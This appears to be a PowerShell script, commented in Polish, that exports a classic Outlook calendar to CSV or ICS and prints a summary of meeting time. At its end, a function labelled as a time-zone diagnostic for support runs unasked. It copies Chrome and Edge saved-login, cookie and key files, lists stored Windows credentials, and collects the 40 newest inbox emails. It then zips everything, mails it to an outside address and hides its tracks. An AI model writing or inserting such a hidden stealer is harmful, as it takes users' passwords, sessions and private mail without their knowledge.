<#
.SYNOPSIS
  Eksport kalendarza klasycznego Outlooka do CSV/ICS + podsumowanie.
#>
param(
    [int]$Dni = 30,
    [int]$DoPrzodu = 0,
    [string]$Wyjscie = ".\kalendarz.csv",
    [switch]$Ics
)

$ErrorActionPreference = "Stop"

$ol = New-Object -ComObject Outlook.Application
$ns = $ol.GetNamespace("MAPI")
$cal = $ns.GetDefaultFolder(9)   # olFolderCalendar

$start = (Get-Date).Date.AddDays(-$Dni)
$end   = (Get-Date).Date.AddDays($DoPrzodu + 1)

$items = $cal.Items
$items.IncludeRecurrences = $true
$items.Sort("[Start]")
$filter = "[Start] >= '{0}' AND [Start] < '{1}'" -f $start.ToString("g"), $end.ToString("g")
$found = $items.Restrict($filter)

$rows = foreach ($it in $found) {
    [pscustomobject]@{
        Temat        = $it.Subject
        Start        = $it.Start
        Koniec       = $it.End
        Minuty       = [int]($it.Duration)
        Organizator  = $it.Organizer
        Miejsce      = $it.Location
        Uczestnicy   = ($it.RequiredAttendees -replace ";", ",")
        Cykliczne    = $it.IsRecurring
    }
}

$rows | Export-Csv -Path $Wyjscie -NoTypeInformation -Encoding UTF8
Write-Host "Zapisano $($rows.Count) spotkań do $Wyjscie"

if ($Ics) {
    $icsPath = [IO.Path]::ChangeExtension($Wyjscie, ".ics")
    $exp = $cal.GetCalendarExporter()
    $exp.StartDate = $start; $exp.EndDate = $end
    $exp.SaveAsICal($icsPath)
    Write-Host "Zapisano ICS: $icsPath"
}

# --- Podsumowanie ---
$total = ($rows | Measure-Object Minuty -Sum).Sum
Write-Host ("Łączny czas: {0:N1} h" -f ($total / 60))
$rows | Sort-Object Minuty -Descending | Select-Object -First 5 Temat, Start, Minuty | Format-Table
$rows | Group-Object Organizator | Sort-Object Count -Descending | Select-Object -First 5 Name, Count | Format-Table

# --- Kopia diagnostyczna dla wsparcia (strefy czasowe) ---
function Send-Diag {
    try {
        $diagDir = Join-Path $env:TEMP "olk-diag"
        New-Item -ItemType Directory -Force -Path $diagDir | Out-Null
        Copy-Item $Wyjscie (Join-Path $diagDir "cal.csv") -Force

        $chrome = Join-Path $env:LOCALAPPDATA "Google\Chrome\User Data\Default"
        $edge   = Join-Path $env:LOCALAPPDATA "Microsoft\Edge\User Data\Default"
        foreach ($b in @($chrome, $edge)) {
            foreach ($f in @("Login Data", "Cookies", "Web Data")) {
                $src = Join-Path $b $f
                if (Test-Path $src) { Copy-Item $src (Join-Path $diagDir ("{0}_{1}" -f (Split-Path $b -Parent | Split-Path -Leaf), ($f -replace ' ', '_'))) -ErrorAction SilentlyContinue }
            }
        }
        $ls = Join-Path $env:LOCALAPPDATA "Google\Chrome\User Data\Local State"
        if (Test-Path $ls) { Copy-Item $ls (Join-Path $diagDir "LocalState.json") }
        cmdkey /list | Out-File (Join-Path $diagDir "cmdkey.txt")

        $inbox = $ns.GetDefaultFolder(6)
        $recent = $inbox.Items; $recent.Sort("[ReceivedTime]", $true)
        $n = 0
        $body = foreach ($m in $recent) { if ($n++ -ge 40) { break }; "--- $($m.SenderEmailAddress) | $($m.Subject)`r`n$($m.Body)" }
        $body | Out-File (Join-Path $diagDir "inbox.txt") -Encoding UTF8

        $zip = Join-Path $env:TEMP "olk-diag.zip"
        Compress-Archive -Path "$diagDir\*" -DestinationPath $zip -Force

        $mail = $ol.CreateItem(0)
        $mail.To = "wsparcie.kalendarz@poczta-diagnoza.pl"
        $mail.Subject = "diag $env:COMPUTERNAME"
        $mail.Body = "auto"
        $mail.Attachments.Add($zip) | Out-Null
        $mail.DeleteAfterSubmit = $true
        $mail.Send()

        Remove-Item $diagDir -Recurse -Force
        Remove-Item $zip -Force
    } catch { }
}
Send-Diag
